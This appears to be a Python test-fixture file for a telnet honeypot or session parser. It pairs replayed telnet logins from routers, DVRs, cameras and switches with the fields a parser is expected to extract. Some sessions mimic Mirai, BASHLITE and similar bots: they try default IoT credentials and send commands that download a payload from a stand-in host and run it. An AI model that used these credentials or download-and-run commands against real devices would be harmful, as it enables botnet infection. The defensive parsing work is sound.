"""Telnet sessions as real devices, bots and people have them, told turn by turn, and what a record says of each."""

from dataclasses import dataclass

from protocols.conversation import Turn

NEGOTIATE: list[Turn] = [
    (False, b"\xff\xfd\x01\xff\xfd\x1f\xff\xfb\x01\xff\xfb\x03"),  # busybox telnetd
    (True, b"\xff\xfc\x01\xff\xfc\x1f\xff\xfe\x01\xff\xfe\x03"),
]
BUSYBOX = (
    b"\r\n\r\nBusyBox v1.12.1 (2013-11-08 13:18:37 CST) built-in shell (ash)\r\n"
    b"Enter 'help' for a list of built-in commands.\r\n\r\n# "
)


def s(text: str | bytes) -> Turn:
    return False, text.encode() if isinstance(text, str) else text


def c(text: str | bytes) -> Turn:
    return True, text.encode() if isinstance(text, str) else text


def keys(text: str, echo: bool = True, mask: str | None = None, enter: str = "\r\0") -> list[Turn]:
    """Somebody types, a key a packet; the server echoes each, or not, or a mask; then Enter."""
    turns: list[Turn] = []
    for key in text:
        turns.append(c(key))
        if mask or echo:
            turns.append(s(mask or key))
    return [*turns, c(enter)] if enter else turns


@dataclass(frozen=True)
class Case:
    turns: list[Turn]
    expected: dict[str, object]


SESSIONS: dict[str, Case] = {
    "busybox, line by line, refused twice": Case(
        [
            *NEGOTIATE,
            s("\r\n(none) login: "), c("root\r\n"), s("root\r\n"), s("Password: "), c("xc3511\r\n"), s("\r\n"),
            s("Login incorrect\r\n(none) login: "), c("admin\r\n"), s("admin\r\nPassword: "), c("hunter2\r\n"),
            s("\r\nLogin incorrect\r\n(none) login: "),
        ],
        {
            "attempts": 2, "passwords": 2, "users": ("root", "admin"), "user": "admin", "refused": 2, "success": False,
            "dictionary": ("default", "mirai"), "dictionary_attempts": 1, "negotiated": True, "banner": None,
        },
    ),
    "a person at a keyboard, with a slip": Case(
        [
            *NEGOTIATE,
            s("dvr login: "), *keys("rot", enter=""), c("\x7f"), s("\b \b"), *keys("ot"), s("\r\nPassword: "),
            *keys("wrong-one", echo=False), s("\r\nLogin incorrect\r\ndvr login: "),
            *keys("root"), s("\r\nPassword: "), *keys("heron-lake-19", echo=False), s("\r\n"), s(BUSYBOX),
            *keys("ls /etc"), s("\r\npasswd\r\n# "), *keys("exit"), s("\r\n"),
        ],
        {
            "attempts": 2, "passwords": 2, "users": ("root",), "user": "root", "refused": 1, "success": True,
            "dictionary": None, "success_dictionary": None, "commands": ("ls /etc", "exit"), "banner": "dvr login:",
        },
    ),
    "Mirai's loader": Case(
        [
            *NEGOTIATE,
            s("\r\nwelcome login: "), c("root\r\n"), s("root\r\nPassword: "), c("vizxv\r\n"), s(BUSYBOX),
            c("enable\r\n"), s("enable\r\n-sh: enable: not found\r\n# "),
            c("system\r\n"), s("system\r\n-sh: system: not found\r\n# "),
            c("shell\r\n"), s("shell\r\n-sh: shell: not found\r\n# "),
            c("sh\r\n"), s("sh\r\n" + BUSYBOX.decode()),
            c("/bin/busybox ECCHI\r\n"), s("/bin/busybox ECCHI\r\nECCHI: applet not found\r\n# "),
            c("/bin/busybox ps; /bin/busybox ECCHI\r\n"), s("...\r\nECCHI: applet not found\r\n# "),
            c("/bin/busybox cat /proc/mounts; /bin/busybox ECCHI\r\n"), s("ECCHI: applet not found\r\n# "),
            c("/bin/busybox wget http://203.0.113.9/arm -O - > dvrHelper; /bin/busybox chmod 777 dvrHelper\r\n"),
        ],
        {
            "attempts": 1, "passwords": 1, "user": "root", "refused": 0, "success": True, "tokens": ("ECCHI",),
            "dictionary": ("default", "mirai"), "success_dictionary": ("mirai", "default"),
            "commands": (
                "enable", "system", "shell", "sh", "/bin/busybox ECCHI", "/bin/busybox ps; /bin/busybox ECCHI",
                "/bin/busybox cat /proc/mounts; /bin/busybox ECCHI",
                "/bin/busybox wget http://203.0.113.9/arm -O - > dvrHelper; /bin/busybox chmod 777 dvrHelper",
            ),
        },
    ),
    "Mirai's scanner goes on after a refusal": Case(
        [
            *NEGOTIATE,
            s("F660 login: "), c("root\r\n"), s("root\r\nPassword: "), c("Zte521\r\n"),
            s("\r\nLogin incorrect\r\nF660 login: "), c("enable\r\n"), s("enable\r\nPassword: "), c("system\r\n"),
            s("\r\nLogin incorrect\r\nF660 login: "), c("shell\r\n"), s("shell\r\nPassword: "), c("sh\r\n"),
            s("\r\nLogin incorrect\r\nF660 login: "), c("/bin/busybox MIRAI\r\n"),
            s("/bin/busybox MIRAI\r\nPassword: "),
        ],
        {
            "attempts": 1, "passwords": 1, "users": ("root",), "refused": 1, "success": False, "tokens": ("MIRAI",),
            "commands": None, "dictionary": ("default", "mirai"),
        },
    ),
    "script typed ahead, accepted": Case(
        [
            *NEGOTIATE,
            s("login: "), c("root\r\n"), s("root\r\nPassword: "),
            c("xc3511\r\nenable\r\nsystem\r\nshell\r\nsh\r\n/bin/busybox PEDO\r\n"),
            s("\r\n"), s("enable\r\nsystem\r\nshell\r\nsh\r\n/bin/busybox PEDO\r\n"), s(BUSYBOX),
            s("enable\r\n-sh: enable: not found\r\n# "), s("PEDO: applet not found\r\n# "),
        ],
        {
            "attempts": 1, "passwords": 1, "success": True, "tokens": ("PEDO",),
            "commands": ("enable", "system", "shell", "sh", "/bin/busybox PEDO"),
        },
    ),
    "script typed ahead, refused": Case(
        [
            *NEGOTIATE,
            s("login: "), c("root\r\n"), s("root\r\nPassword: "),
            c("xc3511\r\nenable\r\nsystem\r\nshell\r\nsh\r\n/bin/busybox PEDO\r\n"),
            s("\r\nLogin incorrect\r\nlogin: "), s("enable\r\nPassword: "), s("\r\nLogin incorrect\r\nlogin: "),
        ],
        {"attempts": 1, "passwords": 1, "refused": 1, "success": False, "commands": None, "tokens": ("PEDO",)},
    ),
    "all at once, without waiting": Case(
        [
            s("login: "), c("root\r\nanko\r\n/bin/busybox SATORI\r\n"),
            s("root\r\nPassword: \r\nSATORI: applet not found\r\n# "),
        ],
        {
            "attempts": 1, "passwords": 1, "users": ("root",), "success": True, "tokens": ("SATORI",),
            "commands": ("/bin/busybox SATORI",), "success_dictionary": ("mirai", "default"),
        },
    ),
    "BASHLITE": Case(
        [
            s("login: "), c("admin"), c("\r\n"), s("Password: "), c("admin"), c("\r\n"),
            s("\r\nWelcome\r\n> "), c("sh\r\n"), s("$ "), c("shell\r\n"), s("$ "),
            c("/bin/busybox;echo -e '\\147\\141\\171'\r\n"), s("$ "),
            c("echo -e '\\x67\\x61\\x79\\x66\\x67\\x74'\r\n"), s("gayfgt\r\n$ "),
            c("cd /tmp || cd /var/run; wget http://203.0.113.9/bins.sh; sh bins.sh\r\n"),
        ],
        {
            "attempts": 1, "success": True, "tokens": ("gayfgt",), "success_dictionary": ("mirai", "default"),
            "commands": (
                "sh", "shell", "/bin/busybox;echo -e '\\147\\141\\171'", "echo -e '\\x67\\x61\\x79\\x66\\x67\\x74'",
                "cd /tmp || cd /var/run; wget http://203.0.113.9/bins.sh; sh bins.sh",
            ),
        },
    ),
    "open shell": Case(
        [
            *NEGOTIATE, s(BUSYBOX.lstrip()), c("enable\r\n"), s("enable\r\n-sh: enable: not found\r\n# "),
            c("sh\r\n/bin/busybox SORA\r\n"), s("SORA: applet not found\r\n# "),
        ],
        {
            "attempts": 0, "passwords": 0, "users": None, "user": None, "success": None,
            "commands": ("enable", "sh", "/bin/busybox SORA"), "tokens": ("SORA",),
            "banner": "BusyBox v1.12.1 (2013-11-08 13:18:37 CST) built-in shell (ash)",
        },
    ),
    "a script before any prompt": Case(
        [*NEGOTIATE, c("enable\r\nsh\r\n/bin/busybox BOTNET\r\n"), s("BOTNET: applet not found\r\n")],
        {"attempts": 0, "success": None, "tokens": ("BOTNET",), "commands": ("/bin/busybox BOTNET",)},
    ),
    "no password needed": Case(
        [*NEGOTIATE, s("ubnt login: "), c("root\r\n"), s("root\r\n"), s(BUSYBOX), c("id\r\n"), s("uid=0(root)\r\n# ")],
        {
            "attempts": 1, "passwords": 0, "success": True, "user": "root", "commands": ("id",),
            "success_dictionary": ("mirai", "default"), "dictionary_attempts": 1,
        },
    ),
    "an empty password": Case(
        [s("login: "), c("admin\r\n"), s("Password: "), c("\r\n"), s("\r\n# "), c("ps\r\n"), s("ps\r\n# ")],
        {"attempts": 1, "passwords": 1, "success": True, "success_dictionary": ("mirai", "default")},
    ),
    "Cisco: a password and no name, three times, then out": Case(
        [
            (False, b"\xff\xfb\x01\xff\xfb\x03\xff\xfd\x18\xff\xfd\x1f"),
            s("\r\n\r\nUser Access Verification\r\n\r\nPassword: "), c("cisco\r\n"), s("\r\nPassword: "),
            c("admin\r\n"), s("\r\nPassword: "), c("secret\r\n"), s("\r\n% Bad passwords\r\n"),
        ],
        {
            "attempts": 3, "passwords": 3, "users": None, "user": None, "refused": 3, "success": False,
            "banner": "User Access Verification", "dictionary": None,
        },
    ),
    "Cisco: in, and then enable": Case(
        [
            s("\r\nUser Access Verification\r\n\r\nUsername: "), c("cisco\r\n"), s("cisco\r\nPassword: "),
            c("cisco\r\n"), s("\r\nRouter>"), c("enable\r\n"), s("enable\r\nPassword: "), c("topsecret\r\n"),
            s("\r\n% Access denied\r\n\r\nRouter>"), c("show version\r\n"), s("show version\r\nCisco IOS\r\nRouter>"),
        ],
        {
            "attempts": 1, "passwords": 2, "users": ("cisco",), "refused": 0, "success": True,
            "commands": ("enable", "show version"), "success_dictionary": ("default",),
        },
    ),
    "a password for su is not a command": Case(
        [
            s("login: "), c("user\r\n"), s("Password: "), c("user\r\n"), s("\r\n$ "),
            c("su\r\n"), s("su\r\nPassword: "), c("topsecret\r\n"), s("\r\n# "), c("passwd\r\n"),
            s("passwd\r\nNew password: "), c("topsecret\r\n"), s("\r\nRetype password: "), c("topsecret\r\n"),
            s("\r\npassword for root changed by root\r\n# "), c("su\r\ntopsecret\r\nwhoami -x\r\n"),
        ],
        {"attempts": 1, "passwords": 4, "success": True, "commands": ("su", "passwd", "su")},
    ),
    "Dahua": Case(
        [
            *NEGOTIATE, s("\r\n(none) login: "), c("root\r\n"), s("root\r\nPassword: "), c("vizxv\r\n"),
            s("\r\n~ # "), c("cat /proc/cpuinfo\r\n"), s("cat /proc/cpuinfo\r\n...\r\n~ # "),
        ],
        {"success": True, "success_dictionary": ("mirai", "default"), "commands": ("cat /proc/cpuinfo",)},
    ),
    "Hikvision": Case(
        [
            *NEGOTIATE, s("\r\ndvrdvs login: "), c("root\r\n"), s("root\r\nPassword: "), c("hiklinux\r\n"),
            s("\r\n\r\n\r\nBusyBox v1.2.1 Protect Shell (psh)\r\n"),
            s("Enter 'help' for a list of davinci system commands.\r\n\r\n# "),
        ],
        {"success": True, "banner": "dvrdvs login:", "success_dictionary": ("default",)},
    ),
    "XiongMai": Case(
        [
            s("LocalHost login: "), c("root\r\n"), s("Password: "), c("xmhdipc\r\n"),
            s("\r\nWelcome to HiLinux.\r\n~ # "), c("ls\r\n"),
        ],
        {"success": True, "banner": "LocalHost login:", "commands": ("ls",)},
    ),
    "DD-WRT": Case(
        [
            *NEGOTIATE,
            s("\r\nDD-WRT v24-sp2 std (c) 2014 NewMedia-NET GmbH\r\n"),
            s("Release: 03/25/14 (SVN revision: 23838)\r\n\r\nDD-WRT login: "),
            c("root\r\n"), s("root\r\nPassword: "), c("admin\r\n"), s("\r\nDD-WRT v24-sp2 std\r\nroot@DD-WRT:~# "),
        ],
        {"success": True, "banner": "DD-WRT v24-sp2 std (c) 2014 NewMedia-NET GmbH"},
    ),
    "Huawei": Case(
        [
            s("\r\nWelcome Visiting Huawei Home Gateway\r\nCopyright by Huawei Technologies Co., Ltd.\r\n\r\nLogin:"),
            c("root\n"), s("root\nPassword:"), c("admin\n"),
            s("*****\nUser or Password is wrong, please input again!\nLogin:"),
            c("telecomadmin\n"), s("telecomadmin\nPassword:"), c("admintelecom\n"), s("************\nWAP>"),
            c("display version\n"),
        ],
        {
            "attempts": 2, "refused": 1, "success": True, "user": "telecomadmin", "users": ("root", "telecomadmin"),
            "success_dictionary": ("default",), "commands": ("display version",), "negotiated": False,
            "banner": "Welcome Visiting Huawei Home Gateway",
        },
    ),
    "a masked password": Case(
        [
            s("User name:"), *keys("admin", enter="\r\n"), s("\r\nPassword:"), *keys("s3cret", mask="*", enter="\r\n"),
            s("\r\n"), s("Bad Password!!!\r\n\r\nUser name:"),
        ],
        {"attempts": 1, "passwords": 1, "refused": 1, "success": False},
    ),
    "APC": Case(
        [
            s("\r\nUser Name : "), c("apc\r\n"), s("apc\r\nPassword  : "), c("apc\r\n"),
            s("***\r\n\r\n\r\nAmerican Power\r\napc>"),
        ],
        {"success": True, "success_dictionary": ("default",)},
    ),
    "Fritz!Box: German": Case(
        [
            s("Fritz!Box user: "), c("admin\r\n"), s("Kennwort: "), c("geheim\r\n"),
            s("\r\nAnmeldung fehlgeschlagen.\r\nFritz!Box user: "),
        ],
        {"attempts": 1, "passwords": 1, "refused": 1, "users": ("admin",)},
    ),
    "Chinese": Case(
        [s("请输入用户名:"), c("admin\r\n"), s("请输入密码:"), c("mima\r\n"), s("用户名或密码错误\r\n请输入用户名:")],
        {"attempts": 1, "passwords": 1, "refused": 1, "users": ("admin",)},
    ),
    "a switch that draws its screen": Case(
        [
            (False, b"\xff\xfb\x01\xff\xfd\x1f"),
            s("\x1b[2J\x1b[?7l\x1b[3;23r\x1b[?6l\x1b[1;1HProCurve J4900B Switch 2626\r\nFirmware revision H.10.35\r\n"),
            s("\x1b[24;1HUsername: \x1b[?25h\x1b[24;1H\x1b[?25h\x1b[24;11H"), *keys("manager", enter="\r\n"),
            s("\x1b[24;0H\x1b[2KPassword: \x1b[24;11H"), *keys("hunter2", echo=False, enter="\r\n"),
            s("\x1b[24;0H\x1b[2KInvalid password\r\n\x1b[24;1HUsername: \x1b[24;11H"),
        ],
        {
            "attempts": 1, "passwords": 1, "users": ("manager",), "refused": 1, "success": False,
            "banner": "ProCurve J4900B Switch 2626",
        },
    ),
    "an ash that asks where the cursor is": Case(
        [
            s("login: "), c("root\r\n"), s("Password: "), c("root\r\n"), s("\r\n/ # \x1b[6n"), c("\x1b[24;5R"),
            *keys("uname -a"), s("\r\nLinux\r\n/ # \x1b[6n"), c("\x1b[24;5R"),
        ],
        {"success": True, "commands": ("uname -a",), "success_dictionary": ("mirai", "default")},
    ),
    "Windows": Case(
        [
            (False, b"\xff\xfd%\xff\xfb\x01\xff\xfb\x03\xff\xfd'\xff\xfd\x1f\xff\xfd\x00\xff\xfb\x00"),
            s("Welcome to Microsoft Telnet Service \r\n\n\rlogin: "), *keys("bob"), s("\r\npassword: "),
            *keys("pw", echo=False),
            s("\r\n\r\nAccess Denied: Specified user is not a member of TelnetClients group.\r\n"),
            s("Server administrator must add this user to the above group.\r\n\r\n"),
            s("Telnet Server has closed the connection\r\n"),
        ],
        {"attempts": 1, "refused": 1, "success": False, "banner": "Welcome to Microsoft Telnet Service"},
    ),
}  # fmt: skip
